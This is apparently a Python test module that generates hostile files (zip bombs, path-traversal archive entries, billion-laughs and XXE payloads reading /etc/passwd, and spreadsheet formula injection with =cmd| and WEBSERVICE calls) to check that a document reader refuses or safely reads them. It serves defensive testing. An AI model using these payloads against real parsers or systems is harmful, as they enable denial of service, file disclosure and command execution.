"""Make the hostile files of `hostile.py`: each kind, what it is, and what must come of it.

A kind is a function that writes into a folder and returns what is to be read: a file (read as
`yiyang.read` does), a folder (a corpus), or a list of texts (given to the grammars). `expects` is
`refused`, `read` or `either`; files are made on the fly, for some are large.
"""

from __future__ import annotations

import io
import struct
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import NamedTuple

ROOT = Path(__file__).resolve().parent.parent
sys.path[:0] = [str(ROOT / "tests")]

import builders  # noqa: E402

Made = Path | list[str]


class Kind(NamedTuple):
    """A kind of hostile input: its group, how it is made, and what must come of it."""

    group: str
    name: str
    make: Callable[[Path], Made]
    expects: str


KINDS: list[Kind] = []


def kind(group: str, name: str, expects: str) -> Callable[[Callable[[Path], Made]], None]:
    """Enter a function into the list of kinds."""

    def enter(make: Callable[[Path], Made]) -> None:
        KINDS.append(Kind(group, name, make, expects))

    return enter


TABLE = [
    ["序号", "工作任务", "责任单位"],
    ["1", "建设甲。", "县民政局"],
    ["2", "推进乙。", "县卫健局"],
]
TITLE = "某县重点任务分工表"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def word_file(folder: Path) -> bytes:
    return builders.word(folder / "a.docx", [TITLE, (TABLE, [])]).read_bytes()


def _sheet(folder: Path, rows: list[list[str]] | None = None) -> bytes:
    return builders.workbook(folder / "a.xlsx", rows or TABLE).read_bytes()


def _with(
    whole: bytes, path: Path, parts: dict[str, bytes], pack: int = zipfile.ZIP_DEFLATED
) -> Path:
    """An archive with parts replaced or added."""
    with zipfile.ZipFile(io.BytesIO(whole)) as old, zipfile.ZipFile(path, "w", pack) as new:
        for name in dict.fromkeys([*old.namelist(), *parts]):
            new.writestr(name, parts[name] if name in parts else old.read(name))
    return path


def _document(folder: Path, body: str, before: str = "") -> Path:
    """A Word file whose text is this XML."""
    text = f"<w:document {W}><w:body>{body}</w:body></w:document>"
    xml = f'<?xml version="1.0" encoding="UTF-8"?>{before}{text}'
    return _with(word_file(folder), folder / "a.docx", {"word/document.xml": xml.encode()})


def _grid(folder: Path, rows: str, more: dict[str, bytes] | None = None) -> Path:
    """A workbook whose sheet is this XML."""
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    xml = f'<worksheet xmlns="{main}"><sheetData>{rows}</sheetData></worksheet>'
    parts = {"xl/worksheets/sheet1.xml": xml.encode()} | (more or {})
    return _with(_sheet(folder), folder / "a.xlsx", parts)


def text_file(folder: Path, text: str | bytes, name: str = "a.txt") -> Path:
    path = folder / name
    path.write_bytes(text if isinstance(text, bytes) else text.encode("utf-8", "surrogatepass"))
    return path


def task_list(task: str) -> str:
    """Return a task list with one task that says this, and another."""
    return f"{TITLE}\n序号\t工作任务\t责任单位\n1\t{task}\t县民政局\n2\t推进乙。\t县卫健局\n"


def _p(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


# Archives ----------------------------------------------------------------------------------------


@kind("archives", "zip bomb: 1 GB of blanks in one part", "refused")
def _(folder: Path) -> Path:
    path = folder / "a.docx"
    with (
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new,
        new.open("word/document.xml", "w") as part,
    ):
        for _ in range(1000):
            part.write(b" " * 1_000_000)
    return path


@kind("archives", "zip bomb nested: archives within archives", "refused")
def _(folder: Path) -> Path:
    data = b"0" * 50_000_000
    for depth in range(6):
        packed = io.BytesIO()
        with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as new:
            for copy in range(3):
                new.writestr(f"{depth}-{copy}.zip", data)
        data = packed.getvalue()
    return text_file(folder, data, "a.docx")


@kind("archives", "zip bomb of entries that overlap", "refused")
def _(folder: Path) -> Path:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as new:
        new.writestr("word/document.xml", b" " * 10_000_000)
    data = packed.getvalue()
    start = data.index(b"PK\x01\x02")
    entry = data[start : data.index(b"PK\x05\x06")]
    name = b"word/document.xml"
    entries = [entry.replace(name, b"word/docum%04d.xml" % n)[: len(entry) + 1] for n in range(200)]
    entries = [entry, *(e[:28] + struct.pack("<H", len(name) + 1) + e[30:] for e in entries)]
    listed = b"".join(entries)
    end = struct.pack(
        "<4s4H2LH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(listed), start, 0
    )
    return text_file(folder, data[:start] + listed + end, "a.docx")


@kind("archives", "an archive that lies about the size of its parts", "refused")
def _(folder: Path) -> Path:
    path = _document(folder, _p(" " * 150_000_000))
    data = path.read_bytes()
    with zipfile.ZipFile(path) as whole:
        size = whole.getinfo("word/document.xml").file_size
    return text_file(folder, data.replace(struct.pack("<L", size), struct.pack("<L", 99)), "a.docx")


@kind("archives", "an archive of 100,000 parts", "refused")
def _(folder: Path) -> Path:
    return _with(word_file(folder), folder / "a.docx", {f"x/{n}": b"" for n in range(100_000)})


@kind("archives", "an archive cut off in the middle", "refused")
def _(folder: Path) -> Path:
    return text_file(folder, word_file(folder)[:9000], "a.docx")


@kind("archives", "parts whose names lead out of the folder (../../)", "either")
def _(folder: Path) -> Path:
    names = {"../../../../tmp/yiyang-hostile": b"x", "/etc/yiyang-hostile": b"x"}
    return _with(word_file(folder), folder / "a.docx", names)


# Word and its XML --------------------------------------------------------------------------------


@kind("Word", "three million empty paragraphs", "refused")
def _(folder: Path) -> Path:
    return _document(folder, "<w:p/>" * 3_000_000)


_LAUGHS = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
_DOCTYPES = {
    "billion laughs": f'<!DOCTYPE x [<!ENTITY a0 "ha">{_LAUGHS}]>',
    "quadratic blow-up": f'<!DOCTYPE x [<!ENTITY a9 "{"a" * 100_000}">]>',
    "an external entity (file:///etc/passwd)": '<!DOCTYPE x [<!ENTITY a9 SYSTEM "file:///etc/passwd">]>',
    "an external DTD on the net": '<!DOCTYPE x SYSTEM "http://192.0.2.1/x.dtd">',
    "a DOCTYPE and nothing else": "<!DOCTYPE x>",
}
_LAUGHING = _DOCTYPES["billion laughs"].encode()
for _name, _doctype in _DOCTYPES.items():
    kind("Word", _name, "refused")(lambda f, d=_doctype: _document(f, _p("&a9;" * 500), d))
    _svg = f"<?xml version='1.0'?>{_doctype}<html><p>{TITLE}</p><p>&a9;&a9;</p></html>"
    if _name != "a DOCTYPE and nothing else":
        kind("pages", f"{_name}, in a page", "either")(lambda f, t=_svg: text_file(f, t, "a.html"))


@kind("Word", "billion laughs in UTF-32", "refused")
def _(folder: Path) -> Path:
    text = f"<w:document {W}><w:body>{_p('&a9;')}</w:body></w:document>"
    xml = (_DOCTYPES["billion laughs"] + text).encode("utf-32")
    return _with(word_file(folder), folder / "a.docx", {"word/document.xml": xml})


@kind("Word", "billion laughs in a body that is called an image", "refused")
def _(folder: Path) -> Path:
    with zipfile.ZipFile(io.BytesIO(word_file(folder))) as whole:
        parts = {name: whole.read(name) for name in ("_rels/.rels", "[Content_Types].xml")}
        body = whole.read("word/document.xml").replace(b"<w:document", _LAUGHING + b"<w:document")
    parts = {n: x.replace(b"word/document.xml", b"word/a.png") for n, x in parts.items()}
    return _with(word_file(folder), folder / "a.docx", parts | {"word/a.png": body})


@kind("Word", "elements nested 100,000 deep", "refused")
def _(folder: Path) -> Path:
    return _document(folder, "<w:sdt>" * 100_000 + "</w:sdt>" * 100_000)


@kind("Word", "tables nested 100 deep", "either")
def _(folder: Path) -> Path:
    table = _p("甲")
    for _ in range(100):
        table = f"<w:tbl><w:tr><w:tc>{_p('乙')}{table}</w:tc></w:tr></w:tbl>"
    return _document(folder, table)


@kind("Word", "a cell that spans a billion columns", "either")
def _(folder: Path) -> Path:
    cell = f'<w:tc><w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr>{_p("甲")}</w:tc>'
    return _document(folder, f"<w:tbl>{f'<w:tr>{cell}</w:tr>' * 2000}</w:tbl>")


@kind("Word", "styles based on one another in a ring", "read")
def _(folder: Path) -> Path:
    ring = "".join(
        f'<w:style w:type="paragraph" w:styleId="S{n}"><w:basedOn w:val="S{1 - n}"/>'
        f'<w:pPr><w:pStyle w:val="S{1 - n}"/></w:pPr></w:style>'
        for n in (0, 1)
    )
    _document(
        folder, f'<w:p><w:pPr><w:pStyle w:val="S0"/></w:pPr><w:r><w:t>{TITLE}</w:t></w:r></w:p>'
    )
    styles = f"<w:styles {W}>{ring}</w:styles>".encode()
    return _with((folder / "a.docx").read_bytes(), folder / "b.docx", {"word/styles.xml": styles})


@kind("Word", "a million attributes on one element", "either")
def _(folder: Path) -> Path:
    attributes = " ".join(f"a{n}='1'" for n in range(1_000_000))
    return _document(folder, f"<w:p {attributes}/>")


@kind("Word", "macros (vbaProject.bin)", "read")
def _(folder: Path) -> Path:
    return _with(
        word_file(folder), folder / "a.docx", {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0Shell"}
    )


@kind("Word", "links to pictures and templates on the net", "read")
def _(folder: Path) -> Path:
    link = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/attachedTemplate" Target="http://192.0.2.1/x.dotm" TargetMode="External"/>'
        "</Relationships>"
    )
    return _with(
        word_file(folder), folder / "a.docx", {"word/_rels/settings.xml.rels": link.encode()}
    )


@kind("Word", "a document under a password (OLE, EncryptedPackage)", "refused")
def _(folder: Path) -> Path:
    name = "EncryptedPackage".encode("utf-16-le")
    return text_file(
        folder, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500) + name + bytes(9000), "a.docx"
    )


@kind("Word", "an OLE file whose chain of sectors is a ring", "refused")
def _(folder: Path) -> Path:
    return text_file(folder, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(40_000), "a.doc")


@kind("Word", "an RTF of a million groups within groups", "refused")
def _(folder: Path) -> Path:
    return text_file(folder, b"{\\rtf1" + b"{" * 1_000_000, "a.rtf")


# Workbooks ---------------------------------------------------------------------------------------


@kind("workbooks", "one cell at the last row and column (XFD1048576)", "refused")
def _(folder: Path) -> Path:
    cells = '<row r="1"><c r="A1" t="inlineStr"><is><t>甲</t></is></c></row>'
    return _grid(folder, cells + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')


@kind("workbooks", "a cell in a column that no program has (ZZZZZZ1)", "refused")
def _(folder: Path) -> Path:
    return _grid(folder, '<row r="1"><c r="A1"><v>1</v></c><c r="ZZZZZZ1"><v>1</v></c></row>')


@kind("workbooks", "a million columns", "refused")
def _(folder: Path) -> Path:
    return _grid(folder, f"<row>{'<c><v>1</v></c>' * 1_000_000}</row>")


@kind("workbooks", "three million cells", "refused")
def _(folder: Path) -> Path:
    return _grid(folder, f"<row>{'<c><v>1</v></c>' * 30}</row>" * 100_000)


@kind("workbooks", "shared strings of 100 MB", "refused")
def _(folder: Path) -> Path:
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    body = f'<sst xmlns="{main}">' + f"<si><t>{'甲乙丙' * 333}</t></si>" * 33_000 + "</sst>"
    return _grid(
        folder, '<row><c t="s"><v>0</v></c></row>', {"xl/sharedStrings.xml": body.encode()}
    )


@kind("workbooks", "a merged range over the whole sheet, ten thousand times", "either")
def _(folder: Path) -> Path:
    whole = _sheet(folder)
    with zipfile.ZipFile(io.BytesIO(whole)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml")
    merge = (
        b"<mergeCells>"
        + b'<mergeCell ref="A1:XFD1048576"/>' * 10_000
        + b"</mergeCells></worksheet>"
    )
    parts = {"xl/worksheets/sheet1.xml": sheet.replace(b"</worksheet>", merge)}
    return _with(whole, folder / "a.xlsx", parts)


@kind("workbooks", "formulas (=HYPERLINK, =cmd|), and links to other workbooks", "read")
def _(folder: Path) -> Path:
    rows = [*TABLE, ["3", '=HYPERLINK("http://192.0.2.1","点")', "=cmd|' /C calc'!A0"]]
    formula = '<row r="9"><c r="B9"><f>WEBSERVICE("http://192.0.2.1/")</f><v>建设丙。</v></c></row>'
    whole = _sheet(folder, [[c.replace('"', "&quot;") for c in row] for row in rows])
    with zipfile.ZipFile(io.BytesIO(whole)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml")
    parts = {
        "xl/worksheets/sheet1.xml": sheet.replace(
            b"</sheetData>", formula.encode() + b"</sheetData>"
        )
    }
    return _with(whole, folder / "a.xlsx", parts | {"xl/externalLinks/externalLink1.xml": b"<x/>"})


@kind("workbooks", "line ends inside cells, a formula behind them (_x000D_=cmd|)", "read")
def _(folder: Path) -> Path:
    rows = [[c.replace("推进", "推进_x000D_=cmd|' /C calc'!A0_x000D_\n") for c in r] for r in TABLE]
    return _with(_sheet(folder, rows), folder / "a.xlsx", {})


@kind("workbooks", "macros in an .xlsm", "read")
def _(folder: Path) -> Path:
    return _with(_sheet(folder), folder / "a.xlsm", {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0Shell"})


@kind("workbooks", "an .ods cell repeated 16,384 times in a million rows", "refused")
def _(folder: Path) -> Path:
    spaces = " ".join(
        f'xmlns:{n}="urn:oasis:names:tc:opendocument:xmlns:{u}:1.0"'
        for n, u in (("office", "office"), ("table", "table"), ("text", "text"))
    )
    cell = '<table:table-cell office:value-type="string" table:number-columns-repeated="16384">'
    body = (
        f"<office:document-content {spaces}><office:body><office:spreadsheet>"
        '<table:table table:name="a"><table:table-row table:number-rows-repeated="1048576">'
        f"{cell}<text:p>甲</text:p></table:table-cell></table:table-row></table:table>"
        "</office:spreadsheet></office:body></office:document-content>"
    )
    with zipfile.ZipFile(folder / "a.ods", "w") as new:
        new.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        new.writestr("content.xml", body)
    return folder / "a.ods"


@kind("workbooks", "an .xls of noise behind its mark", "refused")
def _(folder: Path) -> Path:
    return text_file(folder, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(range(256)) * 400, "a.xls")
